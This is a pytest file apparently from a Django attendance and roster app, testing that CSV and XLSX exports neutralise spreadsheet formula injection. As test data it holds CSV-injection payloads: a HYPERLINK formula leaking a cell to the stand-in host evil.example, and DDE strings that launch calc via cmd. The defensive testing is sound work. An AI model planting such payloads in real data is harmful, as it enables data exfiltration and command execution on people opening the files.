"""Every CSV/XLSX export neutralises cells that a spreadsheet would run as a formula (issue 13 point 3)."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from attendance.models import AttendanceRecord, RosterEntry
from rosterhub.spreadsheets import FORMULA_STARTS, neutral_cell

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Lihat")'
DAY = datetime.date(2024, 4, 16)


def cells_of(content: bytes, fmt: str) -> list:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells]


def assert_neutral(content: bytes, fmt: str) -> list:
    values = cells_of(content, fmt)
    for value in values:
        if isinstance(value, str):
            assert value.lstrip(" ")[:1] not in FORMULA_STARTS or value == "-" or value.lstrip("-").isdigit(), value
    return values


def test_neutral_cell_prefixes_formula_starts_and_keeps_numbers():
    assert neutral_cell(EVIL) == "'" + EVIL
    for text in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"):
        assert neutral_cell(text).startswith("'"), text
    assert neutral_cell("-5") == "-5" and neutral_cell("-") == "-" and neutral_cell(7) == 7
    assert neutral_cell("Budi") == "Budi"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_unit_day_attendance_export_neutralises_names_and_notes(client, world, fmt):
    employee = world.bekasi_staff[1]
    employee.name = EVIL
    employee.save()
    AttendanceRecord.objects.create(employee=employee, unit=employee.unit, agency=employee.agency, date=DAY,
                                    status="S", note="+cmd|' /C calc'!A0")
    client.force_login(world.bekasi_hr)
    response = client.get(f"/kehadiran/unit/{world.bekasi_setda.pk}/{DAY}/unduh.{fmt}")
    assert response.status_code == 200
    values = assert_neutral(response.content, fmt)
    assert "'" + EVIL in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_roster_export_neutralises_names(client, world, fmt):
    employee = world.bekasi_staff[1]
    employee.name = EVIL
    employee.save()
    RosterEntry.objects.create(employee=employee, unit=employee.unit, agency=employee.agency, date=DAY, location="WFO")
    client.force_login(world.bekasi_hr)
    response = client.get(f"/jadwal/{world.bekasi_setda.pk}/ekspor.{fmt}", {"mulai": DAY.isoformat()})
    assert response.status_code == 200
    assert "'" + EVIL in assert_neutral(response.content, fmt)


def test_the_audit_export_neutralises_summaries(client, world):
    from agencies.models import AuditEvent

    AuditEvent.objects.create(action="x", object_type="agencies.employee", object_id="1", agency=world.bekasi,
                              summary="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(world.bekasi_inspector)
    response = client.get("/audit/ekspor.csv")
    content = b"".join(response.streaming_content)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in assert_neutral(content, "csv")
